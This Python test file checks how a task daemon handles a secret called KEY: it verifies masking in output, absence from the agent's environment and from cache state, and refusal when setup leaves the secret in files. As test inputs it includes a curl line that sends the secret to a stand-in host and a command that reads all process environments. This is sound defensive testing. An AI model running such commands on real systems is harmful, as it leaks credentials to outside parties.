"""Plain secrets: setup has the value, and nobody sees it afterwards; what setup leaves of it is no cached state."""

from __future__ import annotations

import base64
import json
import re
import secrets as random
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.support import tasks
from tests.support.daemon import Daemon
from tests.support.tasks import sh

SHOW = """echo "$KEY"; printf %s "$KEY" | base64 -w0; echo
for i in 1 2 3; do printf %s "${KEY:0:9}"; sleep 0.1; printf "%s\\n" "${KEY:9}"; done
"""


@pytest.fixture
def value(daemon: Daemon) -> Iterator[str]:
    """That of the secret KEY."""
    found = f"plain-{random.token_hex(12)}/+"
    done = daemon.hutch("secret", "set", "KEY", input=found.encode())
    assert done.returncode == 0, done.stderr
    assert done.stdout == b"secret KEY, plain, in its variable; phases: setup, maintenance\n"
    yield found
    daemon.client.remove_secret("KEY")


def spec(setup: str, **more: Any) -> dict[str, Any]:
    return {"setup": setup, "secrets": ["KEY"], **more}


def test_setup_has_it_and_the_agent_has_nothing(daemon: Daemon, state: Path, value: str, unique: str) -> None:
    setup = f'{unique}{SHOW}test ${{#KEY}} = {len(value)}; curl -sS "https://x.invalid/?t=$KEY" || true'
    look = sh('echo "[$KEY]"; cat /proc/*/environ | tr "\\0" "\\n" | grep -c ^KEY= || true')
    first = tasks.run(daemon, *look, **spec(setup, maintenance='echo "again $KEY"'))
    assert first["state"] == "succeeded", first["error"]
    assert tasks.output(daemon, first["id"]) == b"[]\n0\n"
    # At the end of base64 stand characters that hold bits of what follows, too: they tell nothing.
    assert re.fullmatch(rb"\*{3}\n\*{3}.{0,4}\n(\*{3}\n){3}", tasks.output(daemon, first["id"], "setup"))
    second = tasks.run(daemon, *look, **spec(setup, maintenance='echo "again $KEY"'))
    assert second["cache"]["hit"]
    assert tasks.output(daemon, second["id"], "maintenance") == b"again ***\n"
    daemon.hutch("secret", "rotate", "KEY", input=b"another value of it")
    third = tasks.run(
        daemon, "true", **spec(setup.replace(f"test ${{#KEY}} = {len(value)}", "true"), maintenance="true")
    )
    assert "secrets" in third["cache"]["reason"]
    forms = [value.encode(), base64.b64encode(value.encode())[:-4], value.encode().hex().encode()]
    answers = json.dumps([daemon.client.tasks(), daemon.client.secrets(), tasks.events(daemon, first["id"])]).encode()
    files = [path.read_bytes() for path in (*state.glob("hutch.db*"), *state.glob("tasks/*/*")) if path.is_file()]
    for content in (answers, daemon.log.encode(), *files):
        assert not any(form in content for form in forms)


def test_what_setup_leaves_of_it_is_refused(daemon: Daemon, value: str, unique: str) -> None:
    setup = f"{unique}echo //registry.example/:_authToken=$KEY >/root/.npmrc; echo $KEY | gzip >/opt/log.gz"
    refused = tasks.run(daemon, "true", **spec(setup))
    assert refused["state"] == "failed"
    assert refused["error"]["message"] == (
        "setup left secrets in its files: /opt/log.gz (KEY, in its unpacked content); /root/.npmrc (KEY, in its content)"
    )
    assert "--allow-secret-in PATH" in refused["error"]["remedy"]
    again = tasks.run(daemon, "true", **spec(setup))
    assert not again["cache"]["hit"]
    look = sh("cat /root/.npmrc; tail -c 3 /root/.npmrc")
    allowed = tasks.run(daemon, *look, **spec(setup, secret_paths=["/root/.npmrc", "/opt/*"]))
    assert tasks.output(daemon, allowed["id"]) == b"//registry.example/:_authToken=***\n/+\n", (
        "it has it, and shows it hidden"
    )
    cleaned = tasks.run(
        daemon, "true", **spec(f"{setup}; rm /root/.npmrc /opt/log.gz", maintenance="echo $KEY >/root/m")
    )
    assert cleaned["state"] == "succeeded"
    freshened = tasks.run(
        daemon, "true", **spec(f"{setup}; rm /root/.npmrc /opt/log.gz", maintenance="echo $KEY >/root/m")
    )
    assert freshened["error"]["message"].startswith("maintenance left secrets in its files: /root/m (KEY")
